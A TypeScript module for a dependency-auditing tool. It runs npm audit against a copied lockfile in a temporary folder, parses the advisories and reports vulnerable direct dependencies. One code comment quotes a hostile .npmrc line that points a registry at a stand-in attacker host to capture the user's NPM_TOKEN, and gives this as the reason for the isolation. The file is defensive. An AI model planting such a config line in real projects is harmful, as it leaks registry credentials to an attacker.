import { copyFileSync, existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { redactText } from '../../core/redact.ts';
import { isRecord } from './package-manifests.ts';
import { runTool } from './run-tool.ts';

export type Severity = 'info' | 'low' | 'moderate' | 'high' | 'critical';
export const SEVERITY_RANK: Record<Severity, number> = { info: 0, low: 1, moderate: 2, high: 3, critical: 4 };

export interface Advisory {
  title: string;
  url?: string;
  /** Undefined when the tool does not rate advisories (pip-audit). */
  severity: Severity | undefined;
  /** Vulnerable versions, e.g. `<4.17.21`. */
  range?: string;
  /** The package the advisory is about (a dependency's dependency, or the dependency itself). */
  packageName: string;
}

/** A direct dependency with known advisories, in itself or in what it pulls in. */
export interface VulnerableDependency {
  name: string;
  /** Installed version(s) as the tool reports them. */
  version: string;
  /** The worst advisory's rating; undefined when the tool does not rate them (pip-audit). */
  severity: Severity | undefined;
  advisories: Advisory[];
  /** How to get out: an in-range update, a named upgrade, or nothing published yet. */
  fix: { kind: 'in-range' } | { kind: 'upgrade'; version: string; major: boolean } | { kind: 'none' };
}

export type AdvisoryOutcome =
  | { kind: 'audited'; tool: string; dependencies: VulnerableDependency[] }
  | {
      kind: 'skipped';
      note: string;
      /** The network or the service failed: worth retrying soon (a missing tool is not). */
      transient?: boolean;
    };

const TIMEOUT_MS = 20_000;

export function rank(severity: Severity | undefined): number {
  return severity === undefined ? SEVERITY_RANK.moderate : SEVERITY_RANK[severity];
}

function severityOf(value: unknown): Severity {
  return value === 'critical' || value === 'high' || value === 'moderate' || value === 'low' ? value : 'info';
}

/** Advisories behind one entry of the report, following `via` names to the packages that carry them. */
function advisoriesOf(
  name: string,
  vulnerabilities: Record<string, unknown>,
  seen = new Set<string>(),
): Advisory[] {
  const entry = vulnerabilities[name];
  if (!isRecord(entry) || seen.has(name) || !Array.isArray(entry.via)) return [];
  seen.add(name);
  const out: Advisory[] = [];
  for (const via of entry.via) {
    if (typeof via === 'string') out.push(...advisoriesOf(via, vulnerabilities, seen));
    else if (isRecord(via) && typeof via.title === 'string') {
      const advisory: Advisory = {
        title: via.title,
        severity: severityOf(via.severity),
        packageName: typeof via.name === 'string' ? via.name : name,
      };
      if (typeof via.url === 'string') advisory.url = via.url;
      if (typeof via.range === 'string') advisory.range = via.range;
      if (!out.some((a) => a.title === advisory.title && a.packageName === advisory.packageName))
        out.push(advisory);
    }
  }
  return out;
}

function fixOf(value: unknown): VulnerableDependency['fix'] {
  if (value === true) return { kind: 'in-range' };
  if (isRecord(value) && typeof value.version === 'string') {
    return { kind: 'upgrade', version: value.version, major: value.isSemVerMajor === true };
  }
  return { kind: 'none' };
}

/** The direct dependencies of an `npm audit --json` report (report version 2), worst first. */
export function parseNpmAudit(report: unknown): VulnerableDependency[] | undefined {
  if (!isRecord(report) || !isRecord(report.vulnerabilities)) return undefined;
  const vulnerabilities = report.vulnerabilities;
  const out: VulnerableDependency[] = [];
  for (const [name, entry] of Object.entries(vulnerabilities)) {
    if (!isRecord(entry) || entry.isDirect !== true) continue;
    out.push({
      name,
      version: typeof entry.range === 'string' ? entry.range : '',
      severity: severityOf(entry.severity),
      advisories: advisoriesOf(name, vulnerabilities),
      fix: fixOf(entry.fixAvailable),
    });
  }
  return out.sort((a, b) => rank(b.severity) - rank(a.severity) || a.name.localeCompare(b.name));
}

/** npm's own words for a failed audit, without URLs (which may carry credentials). */
function reasonOf(stdout: string, stderr: string): string {
  let message = '';
  try {
    const parsed: unknown = JSON.parse(stdout);
    if (isRecord(parsed) && typeof parsed.message === 'string') message = parsed.message;
    if (!message && isRecord(parsed) && isRecord(parsed.error) && typeof parsed.error.summary === 'string')
      message = parsed.error.summary;
  } catch {
    // not JSON: fall back to stderr
  }
  if (!message) message = stderr.split('\n').find((line) => /npm (?:error|ERR!)/.test(line)) ?? 'no report';
  const reason = /reason:\s*(.+)$/.exec(message)?.[1] ?? message;
  return redactText(
    reason
      .replace(/\b\w+:\/\/\S+/g, '<registry>')
      .replace(/^npm (?:error|ERR!)\s*/, '')
      .trim(),
  );
}

/**
 * `npm audit --json --package-lock-only` on `root`'s lockfile: reads only the lockfile (never node_modules,
 * never `fix`), asks the configured registry, and gives up after 20 s. Any failure is a skip note.
 */
export function npmAudit(root: string, lockfile: string, env: NodeJS.ProcessEnv): AdvisoryOutcome {
  // npm runs in a private folder with copies of the manifest and the lockfile, never in the
  // repository: an audited repository's own .npmrc could otherwise point npm at a registry of its
  // choosing and have it send the user's tokens there (`//evil.example/:_authToken=${NPM_TOKEN}`).
  // The user's own npm configuration (~/.npmrc, npm_config_* variables) still applies.
  const dir = mkdtempSync(path.join(tmpdir(), 'improve-npm-audit-'));
  let run: ReturnType<typeof runTool>;
  try {
    for (const file of ['package.json', lockfile]) {
      if (existsSync(path.join(root, file))) copyFileSync(path.join(root, file), path.join(dir, file));
    }
    run = runTool(
      'npm',
      ['audit', '--json', '--package-lock-only', '--fetch-retries=0', '--fetch-timeout=15000'],
      {
        cwd: dir,
        env: { ...env, npm_config_update_notifier: 'false', npm_config_fund: 'false', NO_COLOR: '1' },
        timeoutMs: TIMEOUT_MS,
      },
    );
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
  const skipped = (why: string): AdvisoryOutcome => ({
    kind: 'skipped',
    note: `dependency advisories (${lockfile}): npm audit ${why}; run \`npm audit\` yourself when online`,
    transient: true,
  });
  if (run.kind === 'missing') {
    return {
      kind: 'skipped',
      note: `dependency advisories (${lockfile}): npm audit was not run: npm is not on PATH`,
    };
  }
  if (run.kind === 'timeout') return skipped(`gave no answer within ${run.seconds} s`);
  if (run.kind === 'failed') return skipped(`failed (${redactText(run.message)})`);
  let report: unknown;
  try {
    report = JSON.parse(run.stdout);
  } catch {
    report = undefined;
  }
  const dependencies = parseNpmAudit(report);
  if (!dependencies) return skipped(`could not get advisories (${reasonOf(run.stdout, run.stderr)})`);
  return { kind: 'audited', tool: 'npm audit', dependencies };
}
